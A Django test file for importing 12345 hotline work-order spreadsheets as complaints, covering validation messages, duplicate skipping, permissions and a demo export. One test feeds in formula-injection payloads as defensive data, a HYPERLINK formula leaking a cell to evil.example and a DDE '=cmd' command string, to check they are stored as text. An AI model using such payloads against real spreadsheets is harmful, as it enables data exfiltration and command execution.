"""The 12345 export imported as complaints: every row or none, each problem naming sheet, row
and column; work orders filed before skipped, so the same file twice files nothing new; cells
read as written (a formula kept as its text); the demo export reproducible and importable."""

import io
from datetime import date, datetime
from unittest import mock

from django.test import override_settings
from django.utils import timezone
from openpyxl import Workbook

from servicehall.complaints import hotline
from servicehall.complaints.demo.make_12345_export import PATH, demo_export
from servicehall.complaints.hotline import hotline_import
from servicehall.complaints.models import Channel, Complaint, ComplaintEvent, Handler, Kind
from servicehall.lib.errors import Forbidden
from servicehall.org.models import Window
from servicehall.testing import FAST_HASHERS, PersonaTestCase

NOW = datetime(2026, 12, 4, 17, 0, tzinfo=timezone.get_fixed_timezone(8 * 60))  # Friday afternoon
HEADERS = ["工单编号", "受理时间", "诉求类型", "涉及中心", "标题", "诉求内容", "来电人", "联系电话", "涉及窗口"]


def row(order="GD2026120100107", received="2026-12-01 09:12", kind="投诉", centre="21140301",
        title="法律援助申请材料要求前后不一", content="来电人反映跑了三趟，希望一次性告知所需材料。", caller="孙丽",
        phone="13905271234", window=None) -> list:
    return [order, received, kind, centre, title, content, caller, phone, window]


def workbook(*rows, headers=HEADERS, title="工单表", above=()) -> bytes:
    """An export as the hotline writes one: optional lines above the header row."""
    book = Workbook()
    sheet = book.active
    sheet.title = title
    for line in above:
        sheet.append(line)
    sheet.append(headers)
    for values in rows:
        sheet.append(values)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


class HotlineImportTests(PersonaTestCase):
    def run_import(self, content: bytes, actor=None):
        return hotline_import(actor=actor or self.p.bureau, content=content, now=NOW)

    def test_a_good_file_files_each_work_order_as_a_hotline_complaint_with_its_deadlines(self):
        content = workbook(
            row(window=1),
            row("GD2026120200088", datetime(2026, 12, 2, 16, 20), "表扬", "龙港区行政服务中心运输管理分中心",
                "表扬窗口工作人员", "工作细致耐心。", "吴建华", 15804290276.0),
            row("GD2026113000021", "2026/11/30 8:50", "举报", "21140302", "反映推荐中介代办", "要求保密。", "", ""),
            above=[["龙港区12345热线 工单导出"]])
        result = self.run_import(content)
        self.assertTrue(result.ok, [str(p) for p in result.problems])
        self.assertEqual((result.total, result.skipped), (3, []))
        # Filed in order of receipt: the numbers carry the days.
        self.assertEqual([number[:10] for number in result.created], ["TS20261130", "TS20261201", "TS20261202"])
        got = {c.hotline_order: c for c in Complaint.objects.select_related("window")}
        complaint, praise, report = got["GD2026120100107"], got["GD2026120200088"], got["GD2026113000021"]
        self.assertEqual({c.channel for c in got.values()}, {Channel.HOTLINE})
        self.assertEqual({c.filed_by for c in got.values()}, {self.p.bureau})
        self.assertEqual((complaint.center, complaint.kind, complaint.window, complaint.phone, complaint.name),
                         (self.p.center_a, Kind.COMPLAINT, self.p.window_a, "13905271234", "孙丽"))
        self.assertEqual(timezone.localtime(complaint.received_at).replace(tzinfo=None), datetime(2026, 12, 1, 9, 12))
        # 10 working days for a complaint, 5 for praise
        self.assertEqual((complaint.sign_due, complaint.due), (date(2026, 12, 2), date(2026, 12, 15)))
        self.assertEqual((praise.center, praise.kind, praise.phone, praise.due),
                         (self.p.center_b, Kind.PRAISE, "15804290276", date(2026, 12, 9)))
        self.assertEqual((report.handler, report.due), (Handler.BUREAU, date(2026, 12, 14)))
        self.assertEqual(ComplaintEvent.objects.filter(action="file", note="12345热线").count(), 3)
        self.assertEqual(result.summary, "导入完成：共3条工单，新登记3件，已导入过的0件未重复登记。")

    def test_the_same_file_twice_files_nothing_new(self):
        content = workbook(row(), row("GD2026120200088", title="第二条"))
        self.assertEqual(len(self.run_import(content).created), 2)
        again = self.run_import(content)
        self.assertTrue(again.ok)
        self.assertEqual((again.created, [(s.row, s.hotline_order, s.reason) for s in again.skipped]),
                         ([], [(2, "GD2026120100107", "已导入"), (3, "GD2026120200088", "已导入")]))
        self.assertEqual(Complaint.objects.count(), 2)
        # A later export with one new work order: only that one is filed.
        later = self.run_import(workbook(row(), row("GD2026120200088"), row("GD2026120300015", title="第三条")))
        self.assertEqual((len(later.created), len(later.skipped), Complaint.objects.count()), (1, 2, 3))

    def assertRefused(self, content: bytes, *problems: str):
        result = self.run_import(content)
        self.assertFalse(result.ok)
        self.assertEqual([str(p) for p in result.problems], list(problems))
        self.assertEqual((result.created, Complaint.objects.count(), ComplaintEvent.objects.count()), ([], 0, 0))
        self.assertTrue(result.summary.startswith("导入未执行：发现"))
        return result

    def test_one_bad_row_files_nothing_and_each_problem_names_sheet_row_and_column(self):
        good = [row("GD20261201000%d" % n, title=f"第{n}条") for n in range(1, 4)]
        self.assertRefused(workbook(*good, row("GD2026120100999", centre="21149999")),
                           "工单表 第5行 涉及中心：未找到“21149999”，或您无权为该中心登记投诉（请填写中心全称或编码）")
        self.assertRefused(workbook(*good[:2], row("GD2026120100999", phone="1390527123"), good[2]),
                           "工单表 第4行 联系电话：手机号码格式不正确，应为11位且以1开头")
        result = self.assertRefused(workbook(*good, good[0]), "工单表 第5行 工单编号：工单GD202612010001与第2行重复")
        self.assertEqual((result.problems[0].sheet, result.problems[0].row, result.problems[0].column),
                         ("工单表", 5, "工单编号"))

    def test_every_problem_of_every_row_is_reported(self):
        self.assertRefused(
            workbook(row(title="", content=""),
                     row("GD2026120100108", received="明天上午", kind="咨询", centre="龙港区行政服务中心信访分中心"),
                     row("GD2026120100109", received="2026-12-05 09:00", window="9号窗口"),
                     row("", received="2025-11-30 09:00"),
                     row("=HYPERLINK(\"http://x\",\"GD1\")")),
            "工单表 第2行 标题：请填写", "工单表 第2行 诉求内容：请填写",
            "工单表 第3行 受理时间：“明天上午”不是日期时间，应写作“2026-12-01 09:30”",
            "工单表 第3行 诉求类型：“咨询”无效，可填：投诉、建议、意见、表扬、举报",
            "工单表 第3行 涉及中心：未找到“龙港区行政服务中心信访分中心”，"
            "或您无权为该中心登记投诉（请填写中心全称或编码）",
            "工单表 第4行 受理时间：2026-12-05 09:00晚于导入时间，请核对",
            "工单表 第4行 涉及窗口：龙港区行政服务中心公共法律服务分中心没有9号窗口",
            "工单表 第5行 工单编号：请填写", "工单表 第5行 受理时间：2025-11-30 09:00早于一年前，请核对",
            "工单表 第6行 工单编号：“=HYPERLINK(\"http://x\",\"GD1\")”格式不正确，应为至多40位的字母、数字、“-”或“_”")

    def test_a_work_order_filed_before_is_skipped_but_twice_in_the_file_is_refused(self):
        self.run_import(workbook(row()))
        result = self.run_import(workbook(row(), row("GD2026120100200"), row()))
        self.assertEqual([str(p) for p in result.problems], ["工单表 第4行 工单编号：工单GD2026120100107与第2行重复"])
        self.assertEqual((result.created, result.skipped), ([], []))
        self.assertEqual(list(Complaint.objects.values_list("hotline_order", flat=True)), ["GD2026120100107"])

    def test_formulas_are_kept_as_text_never_calculated(self):
        formula = '=HYPERLINK("http://evil.example/?q="&A2,"点击查看详情")'
        result = self.run_import(workbook(row(title="=1+1", content=formula, caller="=cmd|' /C calc'!A0")))
        self.assertTrue(result.ok, [str(p) for p in result.problems])
        complaint = Complaint.objects.get()
        self.assertEqual((complaint.title, complaint.content, complaint.name), ("=1+1", formula, "=cmd|' /C calc'!A0"))

    def test_content_of_5000_characters_is_taken_and_longer_refused(self):
        self.assertRefused(workbook(row(content="长" * 5001)), "工单表 第2行 诉求内容：不能超过5000字（现有5001字）")
        self.assertRefused(workbook(row(title="标" * 101)), "工单表 第2行 标题：不能超过100字（现有101字）")
        result = self.run_import(workbook(row(content="长" * 5000)))
        self.assertTrue(result.ok)
        self.assertEqual(len(Complaint.objects.get().content), 5000)

    def test_a_centre_the_importer_cannot_file_for_is_unknown_to_them(self):
        result = hotline_import(actor=self.p.manager_a, content=workbook(row(centre="21140302")), now=NOW)
        self.assertEqual([str(p) for p in result.problems],
                         ["工单表 第2行 涉及中心：未找到“21140302”，或您无权为该中心登记投诉（请填写中心全称或编码）"])
        result = hotline_import(actor=self.p.manager_a, content=workbook(row(centre="21140301")), now=NOW)
        self.assertEqual((result.ok, Complaint.objects.get().filed_by), (True, self.p.manager_a))
        with self.assertRaises(Forbidden):
            hotline_import(actor=self.p.leader, content=workbook(row()), now=NOW)

    def test_the_files_shape_is_checked_before_any_row(self):
        self.assertRefused(b"", "文件：文件是空的")
        self.assertRefused(b"not a workbook", "文件：无法读取该文件：请上传12345平台导出的Excel工作簿（.xlsx格式）")
        self.assertRefused(workbook(headers=HEADERS), "工单表：没有工单（第2行起每行一条工单）")
        self.assertRefused(workbook(row(), headers=["工单编号", "受理时间", "标题"]),
                           "工单表 第1行：缺少列：诉求类型、涉及中心、诉求内容、来电人、联系电话")
        self.assertRefused(workbook(row(), headers=["序号", *HEADERS[1:]]),
                           "工单表：前5行中没有找到列标题行（应有“工单编号”等列）")
        with mock.patch.object(hotline, "MAX_ROWS", 2):
            self.assertRefused(workbook(row("A1"), row("A2"), row("A3")),
                               "工单表 第4行：超过2条工单，请分成几个文件导入")
        self.assertRefused(b"PK" + b"\0" * hotline.MAX_FILE_BYTES, "文件：文件不能超过5MB，请分成几个文件导入")
        with mock.patch.object(hotline, "MAX_SHEET_ROWS", 10):  # row numbers read, blank ones included
            self.assertRefused(workbook(row("A1"), *[[None]] * 8, row("A2")),
                               "工单表：超过10行（含空行），请删除多余的空行或分成几个文件导入")
            self.assertTrue(self.run_import(workbook(row("A1"), *[[None]] * 7, row("A2"))).ok)

    def test_another_sheet_name_columns_in_any_order_and_extra_columns_are_read(self):
        headers = ["序号", "联系电话", "来电人", "诉求内容", "标题", "涉及中心", "诉求类型", "受理时间", "工单编号",
                   "办理时限"]
        values = [1, "13905271234", "孙丽", "内容", "标题", "21140301", "建议", datetime(2026, 12, 3, 8, 50),
                  2026120300015, "10个工作日"]
        result = self.run_import(workbook(values, headers=headers, title="Sheet1"))
        self.assertTrue(result.ok, [str(p) for p in result.problems])
        complaint = Complaint.objects.get()
        self.assertEqual((complaint.hotline_order, complaint.kind, complaint.due),
                         ("2026120300015", Kind.SUGGESTION, date(2026, 12, 17)))


@override_settings(PASSWORD_HASHERS=FAST_HASHERS)
class DemoExportTests(PersonaTestCase):
    @classmethod
    def setUpTestData(cls):
        pass  # the demo's own organisation, not the personas

    def test_the_committed_demo_export_is_what_its_script_writes(self):
        self.assertEqual(PATH.read_bytes(), demo_export())

    def test_the_demo_export_files_six_complaints_at_the_demo_centres(self):
        from servicehall.accounts.models import User
        from servicehall.ops.demo.organisation import load_demo_organisation

        load_demo_organisation()
        bureau = User.objects.get(username="bureau")
        result = hotline_import(actor=bureau, content=PATH.read_bytes(), now=NOW)
        self.assertTrue(result.ok, [str(p) for p in result.problems])
        self.assertEqual(len(result.created), 6)
        self.assertEqual(sorted(Complaint.objects.values_list("center__code", flat=True)),
                         ["21140301", "21140302", "21140303", "21140304", "21140305", "21140306"])
        report = Complaint.objects.get(kind=Kind.MISCONDUCT)
        self.assertEqual((report.handler, report.name), (Handler.BUREAU, ""))
        first = Complaint.objects.get(hotline_order="GD2026113000021")
        self.assertEqual((first.window, first.due), (Window.objects.get(center__code="21140301", number=1),
                                                      date(2026, 12, 14)))
        again = hotline_import(actor=bureau, content=PATH.read_bytes(), now=NOW)
        self.assertEqual((again.created, len(again.skipped)), ([], 6))


class NamedTargetTests(PersonaTestCase):
    def test_a_window_or_case_must_be_of_the_rows_centre(self):
        from servicehall.cases.services import case_submit
        from servicehall.cases.tests.helpers import PERSON, item_data, materials, publish

        Window.objects.create(center=self.p.center_b, number=7, name="收费")
        item = publish(self.p, item_data("道路运输经营许可"), center=self.p.center_b)
        case = case_submit(actor=self.p.staff_b, center=self.p.center_b, items=[item.code], applicant=PERSON,
                           materials=list(materials(item).values()))
        headers = [*HEADERS, "涉及办件编号"]
        refused = hotline_import(actor=self.p.bureau, now=NOW, content=workbook(
            row(window="7号窗口"), [*row("GD2026120100108"), case.number], headers=headers))
        self.assertEqual([str(p) for p in refused.problems], [
            "工单表 第2行 涉及窗口：龙港区行政服务中心公共法律服务分中心没有7号窗口",
            f"工单表 第3行 涉及办件编号：在龙港区行政服务中心公共法律服务分中心未找到办件{case.number}"])
        self.assertFalse(Complaint.objects.exists())
        taken = hotline_import(actor=self.p.bureau, now=NOW, content=workbook(
            [*row(centre="21140302", window=7), case.number], headers=headers))
        self.assertTrue(taken.ok, [str(p) for p in taken.problems])
        complaint = Complaint.objects.get()
        self.assertEqual((complaint.center, complaint.window.number, complaint.case), (self.p.center_b, 7, case))
